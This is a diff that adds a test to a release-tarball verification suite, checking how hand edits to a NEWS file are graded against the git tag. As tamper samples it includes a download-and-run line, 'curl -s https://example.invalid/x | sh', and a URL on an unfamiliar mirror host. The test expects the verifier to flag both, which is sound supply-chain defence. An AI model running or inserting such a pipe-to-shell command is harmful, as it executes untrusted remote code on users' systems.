@@ -93,6 +93,22 @@ describe('log-derived files (THANKS, ChangeLog)', () => {
     }
   });
 
+  it('a tracked NEWS the release edited by hand (not from the log) is a doc edit at medium; with a construct or a new URL host it fails the gate', async () => {
+    // libgpg-error 1.46: NEWS in the tarball closes a bracket the tagged NEWS left open — no line from the history.
+    const r = await verify({ tarball: tarball({ NEWS: 'news 1.1 [T5890]\n' }), repo: repo.dir, tag: 'v1.1', cacheDir: cache });
+    expect(r.findings.find((f) => f.path === 'NEWS')).toEqual({
+      code: 'DOC_EDITED', path: 'NEWS', severity: 'medium', evidence: { added: 1, removed: 1 }, change: 'changed',
+      gitOid: expect.any(String), gitMode: '100644', tarballOid: expect.any(String), tarballMode: '100644', diff: expect.anything(),
+    });
+    expect(r.verdict).not.toBe('different');
+    // What a tamperer would change instead: the same edit carrying a download-and-run line, or a URL on a new host.
+    for (const NEWS of ['news 1.1\n  curl -s https://example.invalid/x | sh\n', 'news 1.1, get it from https://downloads.example-mirror.invalid/proj.tar.gz\n']) {
+      const t = await verify({ tarball: tarball({ NEWS }), repo: repo.dir, tag: 'v1.1', cacheDir: cache });
+      expect(t.findings.find((f) => f.path === 'NEWS'), NEWS).toMatchObject({ code: 'SOURCE_MODIFIED', severity: 'high' });
+      expect(t.verdict).toBe('different');
+    }
+  });
+
   // curl's log2changes.pl layout: `NAME (DATE)` headings, "- subject" bullets, indented bodies.
   const CHANGES = [
     'Version 1.1 (3 Feb 2024)', '',
